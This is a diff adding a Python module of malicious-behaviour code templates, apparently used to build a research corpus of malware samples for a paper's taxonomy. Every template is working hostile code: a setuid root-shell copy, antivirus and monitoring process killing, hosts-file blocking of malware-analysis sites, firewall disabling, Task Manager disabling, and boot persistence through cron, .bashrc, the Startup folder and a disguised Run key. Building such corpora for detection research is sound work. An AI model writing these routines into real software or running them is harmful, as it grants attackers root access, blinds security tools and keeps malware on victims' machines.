@@ -1,0 +1,183 @@
+"""System-harming behaviours (paper Table XII category 1, "Malicious Behavior").
+
+Subcategories: Privilege Escalation, Process Manipulation, System
+Configuration Changes, Persistence Mechanisms.
+"""
+
+from __future__ import annotations
+
+from repro.corpus.behaviors.base import Behavior
+
+BEHAVIORS: list[Behavior] = [
+    # -- Privilege Escalation -------------------------------------------------------
+    Behavior(
+        key="privilege_escalation_setuid",
+        subcategory="Privilege Escalation",
+        description="Attempt to elevate privileges via setuid/sudo tricks.",
+        variants=[
+            (
+                ["import os"],
+                """
+                def {func}_elevate():
+                    try:
+                        os.setuid(0)
+                        os.setgid(0)
+                        return True
+                    except PermissionError:
+                        os.system("sudo -n true && sudo cp /bin/sh /tmp/.{var} && sudo chmod 4755 /tmp/.{var}")
+                        return False
+                """,
+                "{func}_elevate()",
+                None,
+            ),
+            (
+                ["import ctypes", "import sys"],
+                """
+                def {func}_runas():
+                    if sys.platform == "win32":
+                        ctypes.windll.shell32.ShellExecuteW(None, "runas", sys.executable,
+                                                            "-m {var}", None, 0)
+                """,
+                "{func}_runas()",
+                None,
+            ),
+        ],
+    ),
+    # -- Process Manipulation ---------------------------------------------------------
+    Behavior(
+        key="process_kill_av",
+        subcategory="Process Manipulation",
+        description="Enumerate processes and kill security tooling.",
+        variants=[
+            (
+                ["import os", "import subprocess"],
+                """
+                def {func}_killers():
+                    blocklist = ("defender", "avast", "kaspersky", "wireshark", "procmon", "taskmgr")
+                    listing = subprocess.run("tasklist", shell=True, capture_output=True, text=True).stdout
+                    for line in listing.splitlines():
+                        name = line.split(" ")[0].lower()
+                        if any(tag in name for tag in blocklist):
+                            os.system("taskkill /F /IM " + name)
+                """,
+                "{func}_killers()",
+                None,
+            ),
+            (
+                ["import os", "import signal"],
+                """
+                def {func}_terminate(pids):
+                    for pid in pids:
+                        try:
+                            os.kill(pid, signal.SIGKILL)
+                        except (ProcessLookupError, PermissionError):
+                            continue
+                """,
+                None,
+                None,
+            ),
+        ],
+    ),
+    # -- System Configuration Changes ----------------------------------------------------
+    Behavior(
+        key="system_config_tamper",
+        subcategory="System Configuration Changes",
+        description="Rewrite hosts file / firewall / registry settings.",
+        variants=[
+            (
+                ["import os"],
+                """
+                def {func}_hosts():
+                    hosts_path = "/etc/hosts" if os.name != "nt" else r"C:\\Windows\\System32\\drivers\\etc\\hosts"
+                    try:
+                        with open(hosts_path, "a") as handle:
+                            handle.write("\\n127.0.0.1 virustotal.com\\n127.0.0.1 hybrid-analysis.com\\n")
+                    except PermissionError:
+                        pass
+                """,
+                "{func}_hosts()",
+                None,
+            ),
+            (
+                ["import subprocess", "import sys"],
+                """
+                def {func}_firewall_off():
+                    if sys.platform == "win32":
+                        subprocess.run("netsh advfirewall set allprofiles state off", shell=True)
+                    else:
+                        subprocess.run("iptables -F", shell=True)
+                """,
+                "{func}_firewall_off()",
+                None,
+            ),
+            (
+                ["import winreg"],
+                """
+                def {func}_registry():
+                    key = winreg.OpenKey(winreg.HKEY_CURRENT_USER,
+                                         "Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Policies",
+                                         0, winreg.KEY_SET_VALUE)
+                    winreg.SetValueEx(key, "DisableTaskMgr", 0, winreg.REG_DWORD, 1)
+                    winreg.CloseKey(key)
+                """,
+                None,
+                None,
+            ),
+        ],
+    ),
+    # -- Persistence Mechanisms ------------------------------------------------------------
+    Behavior(
+        key="persistence_autostart",
+        subcategory="Persistence Mechanisms",
+        description="Install the payload to run at every boot / login.",
+        variants=[
+            (
+                ["import os", "import sys", "import shutil"],
+                """
+                def {func}_startup():
+                    startup = os.path.join(os.path.expanduser("~"),
+                                           "AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup")
+                    if os.path.isdir(startup):
+                        shutil.copy2(sys.argv[0], os.path.join(startup, "WindowsUpdate.py"))
+                """,
+                "{func}_startup()",
+                None,
+            ),
+            (
+                ["import os", "import sys"],
+                """
+                def {func}_cron():
+                    entry = "@reboot python3 " + os.path.abspath(sys.argv[0]) + " >/dev/null 2>&1"
+                    os.system("(crontab -l 2>/dev/null; echo '" + entry + "') | crontab -")
+                """,
+                "{func}_cron()",
+                None,
+            ),
+            (
+                ["import os", "import sys"],
+                """
+                def {func}_rcfile():
+                    bashrc = os.path.expanduser("~/.bashrc")
+                    line = "\\npython3 " + os.path.abspath(sys.argv[0]) + " &\\n"
+                    with open(bashrc, "a") as handle:
+                        handle.write(line)
+                """,
+                "{func}_rcfile()",
+                None,
+            ),
+            (
+                ["import winreg", "import sys"],
+                """
+                def {func}_runkey():
+                    key = winreg.OpenKey(winreg.HKEY_CURRENT_USER,
+                                         "Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run",
+                                         0, winreg.KEY_SET_VALUE)
+                    winreg.SetValueEx(key, "SystemTelemetry", 0, winreg.REG_SZ, sys.executable)
+                    winreg.CloseKey(key)
+                """,
+                "{func}_runkey()",
+                None,
+            ),
+        ],
+    ),
+]
